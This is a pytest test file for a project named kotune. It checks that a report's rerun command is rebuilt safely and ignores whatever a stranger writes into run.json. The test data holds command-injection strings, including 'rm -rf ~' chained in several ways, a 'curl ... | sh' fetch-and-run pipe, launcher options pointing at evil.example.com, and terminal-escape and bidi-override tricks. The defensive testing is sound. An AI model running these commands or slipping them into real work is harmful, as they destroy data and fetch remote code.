"""The command that a report tells to type is kotune's own, whatever a stranger wrote into
run.json."""

import shlex
from pathlib import Path
from typing import Any

import pytest

from kotune.pipeline import RunOptions
from kotune.runs.again import again
from kotune.runs.finished import Finished
from kotune.runs.folder import read_json, write_json
from kotune.runs.job import LAUNCHERS
from tests.finished import finished

# Each option of torchrun and accelerate that names a machine, or what is done there: torchrun loads
# pickles from such a place.
ELSEWHERE = [
    f"--{name}={value}"
    for words in (
        "rdzv endpoint",
        "rdzv backend",
        "rdzv id",
        "rdzv conf",
        "master addr",
        "local addr",
        "node rank",
        "main process ip",
        "main process port",
        "machine rank",
        "same network",
        "max restarts",
        "role",
        "logs specs",
        "deepspeed hostfile",
    )
    for name in (words.replace(" ", "-"), words.replace(" ", "_"))
    for value in ("evil.example.com:29400", "7", "10.0.0.7")
] + [
    "--nnodes=1:4",
    "--nproc_per_node=gpu",
    "--nproc_per_node=٣",
    "--nnodes=2",
    "--nproc_per_node=100",
    "--nproc-per-node=0",
    "--nnodes",
    "-m",
]
OPTIONS = [
    RunOptions(),
    RunOptions(
        overrides=("seed=7", "axolotl.max_steps=60"),
        limit=300,
        lang="ko",
        runs_dir=Path("/kotune-runs"),
    ),
    RunOptions(device="cpu", lang="ko"),
    RunOptions(limit="quick", launcher=("torchrun", "--nproc_per_node=2", "--master_port=29501")),
    RunOptions(launcher=("accelerate", "--num_processes=2", "--num-machines=1")),
    RunOptions(overrides=("a=$(rm -rf ~)", "b='; rm -rf ~ #"), runs_dir=Path("a b")),
]


def record(options: RunOptions, recipe: str = "recipes/a.yml") -> dict[str, Any]:
    """What a run notes of itself."""
    launcher = list(options.launcher) or None
    told = {"command": options.command(Path(recipe)), "overrides": list(options.overrides)}
    return {**told, "limit": options.limit, "launcher": launcher}


@pytest.mark.parametrize("options", OPTIONS, ids=str)
def test_what_a_run_says_of_itself_is_said_again(options: RunOptions) -> None:
    assert again(record(options)) == options.command(Path("recipes/a.yml"))


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ~",
        "./cli.py run recipes/a.yml; rm -rf ~",
        "./cli.py run recipes/a.yml\nrm -rf ~",
        "./cli.py run $(rm -rf ~)",
        "curl https://example.com | sh",
        "./cli.py run --runs-dir",
        "run",
        "",
        "'",
        None,
        7,
        ["rm"],
        "./cli.py run `rm`",
        "& rm",
        "./cli.py run \x1b]0;rm\x07",
        "./cli.py run \u202egpj.mr",
        "./cli.py run a --runs-dir '; rm -rf ~'",
    ],
)
def test_a_strangers_command_is_at_most_a_recipe_of_another_name(command: object) -> None:
    told = again({"command": command})
    assert told.isprintable()
    words = shlex.split(told)
    assert words[:2] == ["./cli.py", "run"] and told == shlex.join(words)
    assert len(words) == 3 or (words[3] == "--runs-dir" and len(words) == 5)


@pytest.mark.parametrize(
    "launcher",
    [
        ["torchrun", "--no-python", "rm", "-rf", "~"],
        ["torchrun", "--no_python"],
        ["accelerate", "-m"],
        ["accelerate", "--config_file=/tmp/x"],
        ["torchrun", "--run_path"],
        ["torchrun", "--rdzv_conf=a b"],
        ["torchrun", "--log-dir=/etc"],
        *([name, "--nnodes=1", word] for name in LAUNCHERS for word in ELSEWHERE),
    ],
)
def test_a_launchers_arguments_name_no_program_and_no_machine(launcher: list[str]) -> None:
    told = again({"command": "./cli.py run a.yml", "launcher": launcher})
    assert told == f"./cli.py run a.yml --launcher {launcher[0]} -- ARGUMENTS"
    for other in (["rm", "-rf"], "torchrun", [], 7, {"torchrun": 1}, [7]):
        assert again({"command": "./cli.py run a.yml", "launcher": other}) == "./cli.py run a.yml"


@pytest.mark.parametrize(
    "field",
    [
        {"overrides": "rm"},
        {"overrides": [7]},
        {"overrides": ["a\n"]},
        {"limit": [1]},
        {"limit": "; rm"},
    ],
)
def test_other_fields_of_another_shape_are_left_out(field: dict[str, Any]) -> None:
    assert again({"command": "./cli.py run a.yml", **field}) == "./cli.py run a.yml"


def test_a_report_tells_the_command_that_was_built_anew(tmp_path: Path) -> None:
    folder = finished(tmp_path / "a")
    write_json(folder / "run.json", {**read_json(folder / "run.json"), "command": "rm -rf ~"})
    assert Finished(folder).command == "./cli.py run RECIPE"
